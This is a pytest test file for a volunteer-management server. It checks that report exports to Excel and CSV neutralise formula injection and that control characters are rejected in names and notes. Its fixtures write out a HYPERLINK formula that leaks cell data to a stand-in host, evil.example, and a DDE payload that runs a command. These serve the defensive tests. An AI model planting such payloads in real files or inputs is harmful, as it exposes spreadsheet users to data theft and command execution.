"""Finding 1 and the text half of finding 8: what a volunteer types cannot become a formula in a
coordinator's Excel, nor break an export or a certificate for everyone in scope."""
import csv
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from server.db import db
from tests import factories
from tests.report_data import add_shift

HOURS = "/api/console/v1/reports/hours"
SHIFTS = "/api/console/v1/reports/shifts"
NOV = {"from": "2026-11-01", "to": "2026-11-30"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&D2,"张三")'
EVIL_NOTE = "=cmd|' /C calc'!A0"


@pytest.fixture
def planted(county):
    """Rows written before input was checked: a formula for a name, a DDE note, a control character."""
    evil = factories.volunteer(county.unit_a, name=EVIL_NAME)
    bell = factories.volunteer(county.unit_a, name="王\u0001芳")
    add_shift(evil, county.post_east, datetime(2026, 11, 9, 8, 0), 60)
    shift = add_shift(bell, county.post_east, datetime(2026, 11, 10, 8, 0), 60)
    from server.models import Shift
    db.session.get(Shift, shift.id).note = EVIL_NOTE
    db.session.commit()
    return evil, bell


@pytest.fixture
def admin(app):
    return factories.headers(factories.console_user("admin"))


def _formula_cells(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sum(archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))


@pytest.mark.parametrize("url, params", [(HOURS, {"group_by": "volunteer"}), (SHIFTS, {})])
def test_an_admins_xlsx_export_holds_no_formula_a_volunteer_typed(client, planted, admin, url, params):
    res = client.get(url, headers=admin, query_string={**NOV, **params, "format": "xlsx"})
    assert res.status_code == 200, res.data[:200]
    assert _formula_cells(res.data) == 0
    sheet = load_workbook(io.BytesIO(res.data)).worksheets[0]
    texts = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert texts[EVIL_NAME] == "s", "the name is shown as text, not run"
    assert "王芳" in texts, "the control character is dropped, the export still works"
    if url == SHIFTS:
        assert texts[EVIL_NOTE] == "s"


@pytest.mark.parametrize("url, params", [(HOURS, {"group_by": "volunteer"}), (SHIFTS, {})])
def test_a_csv_export_quotes_formula_starts_with_an_apostrophe(client, planted, admin, url, params):
    res = client.get(url, headers=admin, query_string={**NOV, **params, "format": "csv"}, buffered=True)
    rows = list(csv.reader(io.StringIO(res.data.decode("utf-8-sig"))))
    cells = {cell for row in rows for cell in row}
    assert "'" + EVIL_NAME in cells and EVIL_NAME not in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert "王芳" in cells and not any("\u0001" in cell for cell in cells)
    if url == SHIFTS:
        assert "'" + EVIL_NOTE in cells


@pytest.fixture
def newcomer(client):
    token = client.post("/api/mp/v1/auth/login", json={"code": "dev:newcomer"}).get_json()["token"]
    return {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("name", ["王\u0001芳", "王\n芳", "王\r芳", "王\t芳", "王\u009b芳", "王\x7f芳"])
def test_registration_refuses_control_characters_in_the_name(client, newcomer, name):
    from tests.test_registration import register_body
    unit = factories.unit()
    res = client.post("/api/mp/v1/me/registration", headers=newcomer, json=register_body(unit, name=name))
    assert res.status_code == 422
    assert res.get_json()["error"]["field"] == "name"


def test_a_shift_note_may_hold_line_breaks_but_no_control_characters(client, county):
    volunteer = factories.volunteer(county.unit_a)
    auth = factories.headers(volunteer)
    started = client.post("/api/mp/v1/shifts", headers=auth, json=factories.at_post(county.post_east))
    assert started.status_code == 201, started.get_json()
    res = client.post(f"/api/mp/v1/shifts/{started.get_json()['id']}/end", headers=auth,
                      json={**factories.at_post(county.post_east), "note": "路口\u0007拥堵"})
    assert res.status_code == 422 and res.get_json()["error"]["field"] == "note"


def test_a_certificate_still_prints_for_an_older_name_with_a_line_break(client, county):
    volunteer = factories.volunteer(county.unit_a, name="李\r\n娜")
    add_shift(volunteer, county.post_east, datetime(2026, 11, 9, 8, 0), 120)
    coordinator = factories.headers(factories.console_user("admin"))
    res = client.get(f"/api/console/v1/volunteers/{volunteer.id}/certificate.pdf", headers=coordinator)
    assert res.status_code == 200, res.data[:300]
    assert res.data.startswith(b"%PDF")
